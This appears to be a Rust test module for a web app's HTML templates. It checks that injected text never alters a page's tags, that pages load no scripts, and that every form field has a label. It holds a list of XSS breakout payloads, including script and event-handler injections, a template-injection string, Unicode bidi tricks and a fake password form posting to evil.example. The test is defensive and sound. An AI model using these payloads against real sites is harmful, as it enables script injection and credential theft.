//! No text, whoever wrote it, becomes anything but text. Source: OWASP ASVS 5.0 V1.2 (encoding for the context).

use std::collections::BTreeSet;

use proptest::prelude::*;
use proptest::test_runner::{Config, FileFailurePersistence};

use super::pages;

/// Ways out of a text, an attribute, a URL, a comment or a stylesheet.
const BREAKOUTS: [&str; 16] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "</title><script>alert(1)</script>",
    "</style><svg/onload=alert(1)>",
    "</textarea><iframe srcdoc='<b>'>",
    "</code></pre><form action=//evil.example><input name=password>",
    "--><script>",
    "]]><svg>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "{{7*7}}{% include \"x\" %}",
    "\u{0}<\u{0}script>",
    "0;url=javascript:alert(1)",
    "\u{ff1c}script\u{ff1e} \u{202e}\u{2066}evil\u{200b}",
];

/// The tags of a page, with their attributes' names but without their values.
///
/// It reads as a browser does: a tag begins at `<`, and a quoted value ends at its quote only.
fn skeleton(page: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = page;
    while let Some((_, after)) = rest.split_once('<') {
        let mut tag = String::new();
        let mut quote = None;
        let end = after.char_indices().find(|(_, c)| match (quote, *c) {
            (None, '>') => true,
            (None, '"' | '\'') => {
                quote = Some(*c);
                false
            }
            (Some(open), c) if open == c => {
                quote = None;
                false
            }
            (None, c) => {
                tag.push(c);
                false
            }
            (Some(_), _) => false,
        });
        tags.push(tag);
        rest = &after[end.map_or(after.len(), |(index, _)| index)..];
    }
    tags
}

fn stays_text(text: &str) -> Result<(), TestCaseError> {
    for ((name, hostile), (_, harmless)) in pages::all(text).into_iter().zip(pages::all("x")) {
        prop_assert_eq!(skeleton(&hostile), skeleton(&harmless), "{} of {:?}", name, text);
    }
    Ok(())
}

#[test]
fn no_known_way_out_changes_the_tags_of_a_page() {
    for breakout in BREAKOUTS {
        stays_text(breakout).expect(breakout);
    }
}

#[test]
fn ten_kilobytes_change_no_tag_and_are_cut_where_people_read() {
    let long = "<b>".repeat(3_500);
    stays_text(&long).expect("length changes nothing");
    for (name, page) in pages::all(&"W".repeat(10_240)) {
        let visible: String =
            page.split('<').filter_map(|part| Some(part.split_once('>')?.1)).collect();
        let longest = visible.split(|c| c != 'W').map(str::len).max().unwrap_or_default();
        let limit = if matches!(name, "code" | "callback") { 4_096 } else { 1_024 };
        assert!(longest < limit || name == "home", "{name} shows {longest} characters in a row");
    }
}

#[test]
fn what_reorders_or_hides_is_nowhere_on_a_page_but_in_an_address() {
    for (name, page) in pages::all("pay\u{202e}lap\u{200b}\u{0}\u{7}\u{feff}") {
        let visible: String =
            page.split('<').filter_map(|part| Some(part.split_once('>')?.1)).collect();
        let deceptive = ['\u{202e}', '\u{200b}', '\u{0}', '\u{7}', '\u{feff}'];
        assert!(name == "home" || !visible.contains(deceptive), "{name}");
    }
}

#[test]
fn no_page_runs_a_script_or_loads_anything() {
    let allowed = BTreeSet::from([
        "a", "body", "button", "circle", "code", "dd", "details", "div", "dl", "dt", "em", "form",
        "h1", "h2", "head", "html", "input", "label", "li", "main", "meta", "option", "p", "path",
        "pre", "select", "span", "strong", "style", "summary", "svg", "title", "ul",
    ]);
    for (name, page) in pages::all("x") {
        for tag in skeleton(&page).iter().filter(|tag| !tag.starts_with(['/', '!'])) {
            let mut words = tag.split_whitespace();
            let element = words.next().unwrap_or_default();
            assert!(allowed.contains(element), "<{element}> on {name}");
            assert!(
                !words
                    .any(|attribute| attribute.starts_with("on") || attribute.starts_with("style")),
                "{tag}"
            );
        }
    }
}

#[test]
fn every_form_posts_its_ticket_and_nothing_else_hidden() {
    for (name, page) in pages::forms("tick&t") {
        // Beside the passwords the providers have a form of their own.
        let forms = if name == "login_with_a_choice" { 2 } else { 1 };
        assert_eq!(
            page.matches("<form method=\"post\" action=\"tick&#38;t\"").count(),
            forms,
            "{name}"
        );
        let hidden = "<input type=\"hidden\" name=\"ticket\" value=\"tick&#38;t\">";
        assert_eq!(page.matches(hidden).count(), forms, "{name}");
        assert_eq!(page.matches("type=\"hidden\"").count(), forms, "{name}");
    }
}

#[test]
fn every_page_has_a_language_a_title_one_heading_and_fits_a_phone() {
    for (name, page) in pages::all("x") {
        for once in ["<html lang=\"en\">", "<title>", "<h1>", "width=device-width", "<main>"] {
            assert_eq!(page.matches(once).count(), 1, "{once} on {name}");
        }
    }
}

#[test]
fn every_field_has_a_label() {
    for (name, page) in pages::all("x") {
        for field in
            page.split("<input ").skip(1).filter(|field| !field.starts_with("type=\"hidden\""))
        {
            let id = field
                .strip_prefix("id=\"")
                .and_then(|rest| rest.split('"').next())
                .expect("a field has an id");
            assert!(page.contains(&format!("<label for=\"{id}\">")), "{id} on {name}");
        }
    }
}

proptest! {
    #![proptest_config(Config { failure_persistence: Some(Box::new(FileFailurePersistence::WithSource("regressions"))), ..Config::default() })]

    #[test]
    fn no_text_changes_the_tags_of_a_page(parts in prop::collection::vec(
        prop_oneof![prop::sample::select(BREAKOUTS.to_vec()).prop_map(str::to_owned), any::<String>(), "[<>\"'&=/ -]{1,8}"], 0..6,
    )) {
        stays_text(&format!("x{}", parts.concat()))?;
    }
}
